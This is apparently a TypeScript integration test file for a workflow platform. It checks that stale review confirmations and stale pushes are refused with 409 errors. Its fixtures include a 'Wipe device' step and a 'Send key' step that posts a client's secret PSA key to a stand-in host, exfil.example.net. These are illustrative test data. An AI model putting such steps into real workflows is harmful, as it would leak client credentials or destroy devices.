// Two people at once, over the real server (found by QA): a client confirming the review from a
// page loaded before the provider pushed again, and a technician pushing from a preflight read
// before a colleague saved the workflow. Each names what it was shown (the review's pushCount,
// the preflight's version): a newer one is refused with 409 and nothing changes; a request without
// it (a script) still confirms / pushes whatever is current.
import { describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import type { Json } from "../helpers/api-fixtures";
import { startPushServer } from "../helpers/push-fixtures";

const t = startPushServer();

const harmless = [
  { id: "hook", kind: "webhook", config: {} },
  { id: "calc", kind: "code", name: "Harmless", config: { code: "return 1" } },
];

const createSource = (name: string) => t.createSource(name, harmless);

/** A colleague's save: the source as read, plus one more step. */
async function addStep(sourceId: string, step: Json): Promise<Json> {
  const cur = (await t.tech.get(`/api/v1/workflows/${sourceId}`)).body;
  const put = await t.tech.put(`/api/v1/workflows/${sourceId}`, { name: cur.name, version: cur.version, steps: [...cur.steps.map(({ id, kind, name, config }: Json) => ({ id, kind, name, config })), step] });
  expect(put.status, JSON.stringify(put.body)).toBe(200);
  return put.body;
}

describe("confirming a review loaded before the provider pushed again", () => {
  it("is refused with 409 review_changed naming the new version, confirms nothing, and the new push can be confirmed", async () => {
    const source = await createSource("Review race");
    const first = await t.tech.post(`/api/v1/workflows/${source.id}/push`, { targetWorkspaceId: t.clientA.id });
    expect(first.status).toBe(201);
    const copyId = first.body.copy.id;
    const loaded = (await t.adminA.get(`/api/v1/workflows/${copyId}/review`)).body;
    expect(loaded).toMatchObject({ pushCount: 1, source: { version: 1 } });

    await addStep(source.id, { kind: "http", name: "Wipe device", config: { method: "POST", url: "http://127.0.0.1:9/WIPE" } });
    expect((await t.tech.post(`/api/v1/workflows/${source.id}/push`, { targetWorkspaceId: t.clientA.id })).status).toBe(200);

    const stale = await t.adminA.post(`/api/v1/workflows/${copyId}/review/confirm`, { pushCount: loaded.pushCount });
    expect(stale.status).toBe(409);
    expect(stale.body).toMatchObject({ error: "review_changed", pushCount: 2, sourceVersion: 2 });
    expect(stale.body.message).toContain("the provider pushed again (version 2) since this review was loaded: review the new configuration");
    const after = (await t.adminA.get(`/api/v1/workflows/${copyId}/review`)).body;
    expect(after.complete).toBe(false);
    expect(after.items.find((i: Json) => i.kind === "confirm")).toMatchObject({ done: false, reviewedAt: null });
    const live = await t.adminA.post(`/api/v1/workflows/${copyId}/live`);
    expect(live.status).toBe(409);
    expect(live.body.error).toBe("review_incomplete");
    expect(await db().auditEvent.count({ where: { workflowId: copyId, action: "reviewed" } })).toBe(0);

    // Confirming the push now shown goes through, and the copy goes Live with the step it was shown.
    const ok = await t.adminA.post(`/api/v1/workflows/${copyId}/review/confirm`, { pushCount: after.pushCount });
    expect(ok.status).toBe(200);
    expect(ok.body.complete).toBe(true);
    const wentLive = await t.adminA.post(`/api/v1/workflows/${copyId}/live`);
    expect(wentLive.status).toBe(200);
    expect(wentLive.body.steps.map((s: Json) => s.name)).toContain("Wipe device");
  });

  it("still confirms the current push without pushCount (scripts), and refuses a field it does not take", async () => {
    const source = await createSource("Review by script");
    const copyId = (await t.tech.post(`/api/v1/workflows/${source.id}/push`, { targetWorkspaceId: t.clientA.id })).body.copy.id;
    const extra = await t.adminA.post(`/api/v1/workflows/${copyId}/review/confirm`, { pushcount: 1 });
    expect(extra.status).toBe(400);
    expect(extra.body.message).toContain('unknown field "pushcount"');
    const bare = await t.adminA.post(`/api/v1/workflows/${copyId}/review/confirm`);
    expect(bare.status).toBe(200);
    expect(bare.body.complete).toBe(true);
  });
});

describe("pushing from a preflight read before the workflow was saved", () => {
  it("is refused with 409 workflow_changed and pushes nothing; the version now shown pushes", async () => {
    const source = await createSource("Push race");
    await t.adminA.put(`/api/v1/workspaces/${t.clientA.id}/variables/PSA_KEY`, { value: "client-psa-key", secret: true });
    const pre = (await t.tech.get(`/api/v1/workflows/${source.id}/push-preflight?target=${t.clientA.id}`)).body;
    expect(pre.workflow.version).toBe(1);

    await addStep(source.id, { kind: "http", name: "Send key", config: { method: "POST", url: "https://exfil.example.net/collect", headers: [{ name: "x-key", value: "{{ secrets.PSA_KEY }}" }] } });
    const stale = await t.tech.post(`/api/v1/workflows/${source.id}/push`, { targetWorkspaceId: t.clientA.id, version: pre.workflow.version });
    expect(stale.status).toBe(409);
    expect(stale.body).toMatchObject({ error: "workflow_changed", currentVersion: 2 });
    // The message names who saved it in the way and when (version-saver.ts), then the versions.
    expect(stale.body.message).toMatch(/^the workflow was saved by .+ \(.+@.+\) at \d{4}-\d\d-\d\dT[^ ]+ since the preflight you pushed from \(the preflight showed version 1; it is at version 2\)/);
    expect(await db().workflowCopy.count({ where: { sourceWorkflowId: source.id } })).toBe(0);
    expect((await t.tech.get(`/api/v1/workflows/${source.id}/pushes`)).body.copies).toEqual([]);

    const again = (await t.tech.get(`/api/v1/workflows/${source.id}/push-preflight?target=${t.clientA.id}`)).body;
    expect(again.variables).toEqual([{ key: "PSA_KEY", secret: true, status: "present" }]);
    // The steps, for the page to say what changed in them: the unchanged steps keep their fingerprints.
    const fingerprints = (p: Json) => p.workflow.steps.map((s: Json) => [s.id, s.kind, s.name, s.fingerprint]);
    expect(fingerprints(again).slice(0, 2)).toEqual(fingerprints(pre));
    expect(again.workflow.steps[2]).toMatchObject({ kind: "http", name: "Send key", fingerprint: expect.stringMatching(/^[0-9a-f]{16}$/) });
    const pushed = await t.tech.post(`/api/v1/workflows/${source.id}/push`, { targetWorkspaceId: t.clientA.id, version: again.workflow.version });
    expect(pushed.status).toBe(201);
    expect((await t.tech.get(`/api/v1/workflows/${source.id}/pushes`)).body.copies[0].pushedVersion).toBe(2);
  });

  it("pushes the current version without one (scripts)", async () => {
    const source = await createSource("Push by script");
    await addStep(source.id, { kind: "code", name: "Later", config: { code: "return 2" } });
    const pushed = await t.tech.post(`/api/v1/workflows/${source.id}/push`, { targetWorkspaceId: t.clientA.id });
    expect(pushed.status).toBe(201);
    expect((await t.tech.get(`/api/v1/workflows/${source.id}/pushes`)).body.copies[0].pushedVersion).toBe(2);
  });
});
